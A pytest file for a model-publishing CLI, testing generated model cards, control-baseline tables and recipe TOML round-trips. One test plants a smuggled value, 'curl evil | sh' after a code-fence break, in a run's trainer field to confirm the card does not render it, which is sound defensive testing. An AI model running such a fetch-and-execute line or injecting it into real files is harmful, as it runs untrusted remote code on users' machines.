"""What a pushed run says of its controls, and how its recipe is run again."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import tomllib

from gem_core.cli import main
from gem_core.cli.parser import build_parser
from gem_core.env.registration.references import trust
from gem_core.errors import RunError
from gem_core.runs.directory.run_dir import RunDir
from gem_core.runs.recipe.files import shipped
from gem_core.runs.recipe.load import load_recipe, recipe_from_dict, without_idle
from gem_core.runs.recipe.recipe import Recipe
from gem_push.recipe_file import recipe_text

RATES = {"success/mean": 0.5, "success/low": 0.4, "success/high": 0.6, "reward/mean": 0.5}


def finished(folder: Path, recipe: Recipe, trainer: str = "trl") -> RunDir:
    run = RunDir.create(folder, recipe, trainer)
    run.model.mkdir()
    (run.model / "config.json").write_text("{}")
    run.log(1, {"success/mean": 0.5})
    facts = {"name": recipe.name, "trainer": trainer, "estimator": "rebn", "model": "tiny"}
    counts = {"format": 2, "seed": recipe.seed, "steps": 1, "episodes": 4}
    rates = {"before": {**RATES, "success/mean": 0.1}, "after": RATES, "seconds": {"train": 1.0}}
    about = {"versions": {}, "python": "3.11", "hardware": {}, "commit": None}
    run.finish({**facts, **counts, **rates, **about, "environments": []})
    return run


def pushed(run: RunDir, folder: Path, *options: str) -> Path:
    words = ["push", str(run.path), "me/model", "--no-episodes", "--dry-run", str(folder)]
    assert main([*words, *options]) == 0
    return folder


@pytest.fixture(scope="module")
def controls(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder that the command itself makes, of four tasks."""
    folder = tmp_path_factory.mktemp("controls") / "out"
    words = ["controls", "guess-the-number-easy", "--players-only", "--episodes", "4"]
    assert main([*words, "--out", str(folder)]) == 0
    return folder


@pytest.mark.parametrize("name", ["", "controls.json"])
def test_controls_are_in_the_card_with_their_figures(
    tmp_path: Path, controls: Path, name: str
) -> None:
    run = finished(tmp_path / "run", load_recipe("guess-the-number-easy"))
    card = (
        pushed(run, tmp_path / "out", "--controls", str(controls / name)) / "README.md"
    ).read_text()
    success = json.loads((controls / "controls.json").read_text())["success"]
    rows = re.findall(r"^\| (\w+|this model) \| (\d.*) \|$", card.split("## Controls")[1], re.M)
    wanted = [(player, f"{rate:.3f}") for player, rate in success.items()]
    assert wanted and rows[: len(wanted)] == wanted
    assert rows[len(wanted)] == ("this model", "0.500 [0.400, 0.600]")


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"name": "other"}, "is of the recipe 'other'"),
        ({"success": {"random": "high"}}, "is damaged"),
        (None, "`gem-core controls` makes it"),
    ],
)
def test_controls_of_another_recipe_are_refused(
    tmp_path: Path,
    controls: Path,
    change: dict[str, Any] | None,
    message: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    run = finished(tmp_path / "run", load_recipe("guess-the-number-easy"))
    file = tmp_path / "controls.json"
    if change is not None:
        file.write_text(json.dumps(json.loads((controls / "controls.json").read_text()) | change))
    words = ["push", str(run.path), "me/model", "--controls", str(file)]
    assert main([*words, "--dry-run", str(tmp_path / "out")]) == 2
    assert message in capsys.readouterr().err
    assert not (tmp_path / "out" / "README.md").exists()


@pytest.mark.parametrize("profile", ["tiny", "paper"])
@pytest.mark.parametrize("name", sorted(shipped("baselines")))
def test_every_recipe_is_the_same_as_toml(name: str, profile: str) -> None:
    with trust(True):
        recipe = load_recipe(name, profile)
        text = recipe_text(recipe.to_dict())
        assert recipe_from_dict(tomllib.loads(text)) == recipe


def test_the_command_of_the_card_reads_the_recipe_of_the_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    changes = ["seed=7", "env.0.kwargs.max_turns=3", 'trainer.trl.optim="sgd"', "train.steps=3"]
    recipe = load_recipe("guess-the-number-easy", "learn", changes)
    out = pushed(finished(tmp_path / "run", recipe), tmp_path / "out")
    card = (out / "README.md").read_text()
    (line,) = re.findall(r"^gem-core (train .*)$", card, re.MULTILINE)
    assert "hf download me/model recipe.toml --local-dir .\n" in card
    assert "your own values" not in card
    monkeypatch.chdir(out)
    arguments = build_parser().parse_args(line.split())
    assert arguments.trainer == "trl"
    assert load_recipe(arguments.baseline, arguments.profile) == recipe
    assert recipe_from_dict(json.loads(Path("recipe.json").read_text())) == recipe


def test_the_card_names_the_keys_that_are_not_published(tmp_path: Path) -> None:
    rows = tmp_path / "private" / "rows.jsonl"
    changes = [f'env.0.kwargs.dataset="{rows}"', 'model.path="/home/somebody/models/mine"']
    recipe = load_recipe("math-python", "paper", changes)
    out = pushed(finished(tmp_path / "run", recipe), tmp_path / "out")
    card = (out / "README.md").read_text()
    (keys,) = re.findall(r"your own values of (.*): those", card)
    assert keys == "env.0.kwargs.dataset, model.path"
    text = (out / "recipe.toml").read_text()
    assert "private" not in text and "somebody" not in text
    again = load_recipe(out / "recipe.toml", overrides=changes)
    assert again == recipe


def test_a_recipe_of_an_older_run_loads_without_its_keys_without_effect(tmp_path: Path) -> None:
    run = finished(tmp_path / "run", load_recipe("guess-the-number-easy"))
    stored = json.loads((run.path / "recipe.json").read_text())
    stored["workers"]["number"] = 3  # it has an effect with worker processes only
    (run.path / "recipe.json").write_text(json.dumps(stored))
    old = RunDir(run.path)
    assert old.recipe.workers.number == 3
    out = pushed(old, tmp_path / "out")
    assert load_recipe(out / "recipe.toml") == without_idle(old.recipe)


def test_a_recipe_that_toml_cannot_say_is_left_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = load_recipe("math-python", "paper").to_dict()
    data["env"][0]["kwargs"]["revision"] = None
    run = finished(tmp_path / "run", recipe_from_dict(data))
    out = pushed(run, tmp_path / "out")
    assert "left out: recipe.toml (a parameter of the recipe is None" in capsys.readouterr().out
    assert not (out / "recipe.toml").exists()
    assert "recipe.toml" not in (out / "README.md").read_text()


def test_a_trainer_of_a_foreign_run_cannot_write_commands(tmp_path: Path) -> None:
    run = finished(tmp_path / "run", load_recipe("guess-the-number-easy"))
    info = json.loads((run.path / "run.json").read_text())
    info["trainer"] = "x\n```\ncurl evil | sh"
    (run.path / "run.json").write_text(json.dumps(info))
    card = (pushed(RunDir(run.path), tmp_path / "out") / "README.md").read_text()
    assert "gem-core train recipe.toml --trainer NAME\n```" in card


@pytest.mark.parametrize(
    "value",
    [
        {"a b.c": 'quote " back \\ line\nend \x7f \x00 é \U0001f600', "": 1},
        {"floats": [1e-06, 1e22, 0.1, float("inf"), -2.0], "int": [], "on": [True, False]},
        {"mixed": [1, {"a": {"b": [{}]}}, [{"c": "d"}]], "empty": {}},
        {"tables": [{"x": {"y": 1}, "z": 2}, {"x": [{"y": {"q.r": 1}}]}], "last": 1},
    ],
)
def test_toml_says_what_it_was_given(value: dict[str, Any]) -> None:
    assert tomllib.loads(recipe_text(value)) == value


@pytest.mark.parametrize("value", [{"a": "\ud800"}, {"\ud800": 1}, {"a": [1, None]}])
def test_what_toml_cannot_say_is_an_error(value: dict[str, Any]) -> None:
    with pytest.raises(RunError, match="The recipe has"):
        recipe_text(value)
